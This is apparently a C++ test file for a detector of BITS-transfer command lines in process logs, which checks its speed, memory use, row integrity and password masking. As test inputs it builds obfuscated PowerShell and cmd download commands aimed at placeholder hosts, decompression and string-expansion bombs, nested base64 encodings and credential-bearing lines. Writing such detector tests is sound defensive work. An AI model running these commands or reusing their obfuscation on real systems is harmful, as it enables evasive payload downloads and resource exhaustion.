// Command lines that are made to cost time or memory, or to break the rows around them. Time is
// asked of the release only; that every row comes back, in order, of every build.

#include <gtest/gtest.h>

#include <chrono>
#include <iterator>
#include <random>
#include <string>
#include <string_view>

#include "e2e/app.h"
#include "support/expect.h"
#include "tests/support/obfuscator/encodings.h"

namespace e2e {
namespace {

using search_head::Texts;

constexpr std::size_t kMiB = 1 << 20;
// Between hostile rows, so that one that spoils the next is found out.
constexpr const char* kHidden = "powershell -c \"&('Start-Bits'+'Transfer') http://a.example/x y\"";
constexpr const char* kOrdinary = "C:\\Windows\\system32\\svchost.exe -k netsvcs";

std::string filled(std::string_view piece, std::size_t size) {
  std::string out;
  out.reserve(size + piece.size());
  while (out.size() < size) out += piece;
  return out;
}

// As many numbered pieces as fit; each # in one is its number.
std::string numbered(std::string_view piece, std::size_t size) {
  std::string out;
  for (std::size_t i = 0; out.size() < size; ++i) {
    for (const char c : piece) out += c == '#' ? std::to_string(i) : std::string(1, c);
  }
  return out;
}

std::string script(const std::string& text) { return "powershell -c \"" + text + "\""; }

std::string of_base64(std::string_view bytes) {
  return "[Convert]::FromBase64String('" + obfuscator::base64(bytes) + "')";
}

std::string inflated(const char* stream, std::string_view bytes) {
  return "(New-Object IO.StreamReader(New-Object IO.Compression." + std::string(stream) +
         "([IO.MemoryStream]" + of_base64(bytes) +
         ",[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
}

std::string encoded_in_itself(std::string text, int times) {
  for (; times > 0; --times) {
    text = "powershell -e " + obfuscator::base64(obfuscator::utf16(text));
  }
  return text;
}

// Each among the two other lines. All must come back as they were, with their own verdict.
Outcome expect_all_back(const Texts& lines, const std::string& arguments = "mode=annotate") {
  Table rows = {{"n", "process"}, {}};
  for (const std::string& line : lines) {
    for (const std::string& each : {std::string(kHidden), line, std::string(kOrdinary)}) {
      rows.rows.push_back({std::to_string(rows.rows.size()), each});
    }
  }
  Search how;
  how.deadline = std::chrono::minutes(4);
  const Outcome out = bitsmatch_in_full(arguments, rows, how);
  EXPECT_EQ(out.table.texts("n"), rows.texts("n"));
  EXPECT_TRUE(out.table.texts("process") == rows.texts("process")) << "a line has changed";
  const Texts matches = out.table.texts("bits_match");
  for (std::size_t i = 0; i + 2 < matches.size(); i += 3) {
    EXPECT_EQ(matches[i], "1") << "before line " << i / 3;
    EXPECT_EQ(matches[i + 2], "0") << "behind line " << i / 3;
  }
  return out;
}

void expect_cheap(const Outcome& out, double seconds) {
  if (!is_release()) return;
  EXPECT_LT(out.seconds, seconds);
  EXPECT_LT(out.peak_memory, 512 * kMiB);
}

TEST(HostileLines, BombsThatAreUnpackedCostWhatTheirLineCosts) {
  const std::string much = filled("bits ", 40 * kMiB);
  const Outcome out = expect_all_back(
      {script("iex " + inflated("GzipStream", obfuscator::gzip(much))),
       script("iex " + inflated("DeflateStream", obfuscator::raw_deflate(much))),
       script("iex ([Text.Encoding]::UTF8.GetString(" +
              of_base64(obfuscator::gzip(obfuscator::gzip(much))) + "))"),
       script("iex ([Text.Encoding]::UTF8.GetString(" + of_base64(filled("bits;", kMiB / 2)) +
              "))"),
       encoded_in_itself("bitsadmin /list", 12), encoded_in_itself(filled("bits ", 20'000), 3),
       script("$a='bits'*100000;$b=$a*100000;$c=$b*100000;iex $c"),
       script("$a='bits'" + numbered(";$a=$a+$a", 2'000) + ";iex $a"),
       script("'a'" + filled(".Replace('a','aaaaaaaa')", 3'000) + "|iex #bits"),
       "cmd /v:on /c \"set a=bits" + filled("&set a=!a!!a!!a!!a!", 4'000) + "\"",
       "cmd /c for /l %i in (1,1,2000000000) do bits^admin /list",
       "cmd /c " + filled("for %i in (1,2,3,4,5,6,7,8,9) do ", 8'000) + "bits^admin /list"});
  expect_cheap(out, 5);
}

TEST(HostileLines, OfAMebibyteTakeNoLongTime) {
  const std::string hidden = "St`art-BitsTransfer http://a.example/x y";
  const Outcome out = expect_all_back(
      {script(hidden + ";#" + filled("x", kMiB)), script(filled("{0}", kMiB) + "-f 'bits'"),
       script("$h=@{" + numbered("a#=1;", kMiB) + "};" + hidden),
       script("bits;" + numbered("$a#='bits';", kMiB)), script("'bits'" + filled("[0]", kMiB)),
       script("sal a0 Start-BitsTransfer" + numbered(";sal b# a#", kMiB)),
       script("gcm " + filled("*a", kMiB) + " #bits"), script(filled("1..9|%{", kMiB) + "bits"),
       script("St`art-BitsTransfer -Source " + numbered("http://h#.example/x,", kMiB) + "z y"),
       script(numbered("St`art-BitsTransfer http://h#.example/x y;", kMiB)),
       script("St`art-BitsTransfer http://" + filled("a.", kMiB) + "example/x y"),
       script("St`art-BitsTransfer http://a.example/" + filled("%41", kMiB) + " y"),
       script(hidden + ";" + filled("a://b:c@ ", kMiB)),
       "cmd /c bits^admin /transfer j " + numbered("http://h#.example/x C:\\x# ", kMiB),
       "cmd /c for %i in (" + filled("a,", kMiB) + ") do bits^admin /transfer j http://%i/x C:\\x",
       "bitsadmin /setcustomheaders j " + numbered("\"Authorization: p#\" ", kMiB),
       "cmd /c bits^admin /transfer j http://a.example/x C:\\x & " +
           filled("rem bitsadmin & ", kMiB)});
  expect_cheap(out, 10);
}

// Each password is masked in each text: both may be many.
TEST(HostileLines, OfManyPasswordsTakeNoLongTime) {
  const std::string transfer = "cmd /c bits^admin /transfer j http://a.example/x C:\\x";
  const Outcome out = expect_all_back(
      {transfer + " & cmdkey " + numbered("/pass:p# ", kMiB),
       transfer + numbered("&cmdkey /pass:p#", kMiB),
       transfer + numbered("&bits^admin /setcredentials j server basic u p#", kMiB),
       script("St`art-BitsTransfer http://a.example/x y;" +
              numbered("convertto-securestring p#;", kMiB)),
       "bitsadmin /setcustomheaders j " + numbered("\"X-Token: p#\" ", kMiB),
       script("St`art-BitsTransfer " + numbered("https://u#:p#@a.example/x,", kMiB) + "z y")});
  expect_cheap(out, 5);
}

// Bytes of any value behind what opens the reader's door.
TEST(HostileLines, OfRandomBytesComeBack) {
  constexpr std::string_view kBegins[] = {
      "powershell ", "powershell -c \"", "cmd /c ",         "bitsadmin /transfer ",
      "bits",        "powershell -e ",   "cmd /v:on /c \"", "Start-BitsTransfer "};
  constexpr std::string_view kWords[] = {
      "bits", "admin", "`", "^",      "'",    "\"\"", "$(",      "@{",   "[char]", "-join", "iex ",
      "|",    ";",     "{", "-split", "%a:~", "!b!",  "http://", "\\\\", "<#",     "\n"};
  std::mt19937 random(20260317);
  Texts lines;
  for (int i = 0; i < 1'500; ++i) {
    std::string line(kBegins[random() % std::size(kBegins)]);
    for (std::size_t n = random() % 120; n > 0; --n) {
      if (random() % 2 == 0) {
        line += kWords[random() % std::size(kWords)];
      } else {
        line += static_cast<char>(random() % 256);
      }
    }
    lines.push_back(std::move(line));
  }
  for (const char* arguments : {"mode=annotate", "mode=annotate *bits*transfer*"}) {
    Table rows = {{"n", "process"}, {}};
    for (const std::string& line : lines) {
      rows.rows.push_back({std::to_string(rows.rows.size()), line});
    }
    const Table whole = bitsmatch_in_full(arguments, rows, {.chunk_rows = 1'000}).table;
    EXPECT_EQ(whole.texts("n"), rows.texts("n"));
    EXPECT_EQ(whole.texts("process"), rows.texts("process"));
    EXPECT_EQ(bitsmatch_in_full(arguments, rows, {.chunk_rows = 13}).table, whole) << arguments;
  }
}

TEST(HostileLines, DoNotSpoilTheColumnsOfATransfer) {
  const std::string name = std::string("a\nb\r\n\"c\",$d$;\x01\xff\xf0\x9f", 17) + "e";
  const Outcome out = bitsmatch_in_full(
      "", {{"process"},
           {{"bitsadmin /transfer '" + name + "' http://a.example/x C:\\x"},
            {"bitsadmin /transfer j \"http://a.example/$x$;$y\" \"C:\\a,b\n\""}}});
  ASSERT_EQ(out.table.rows.size(), 2U);
  EXPECT_EQ(out.table.at(1, "bits_url").text, "http://a.example/$x$;$y");
  EXPECT_EQ(out.table.at(1, "bits_destination").text, "C:\\a,b\n");
}

}  // namespace
}  // namespace e2e
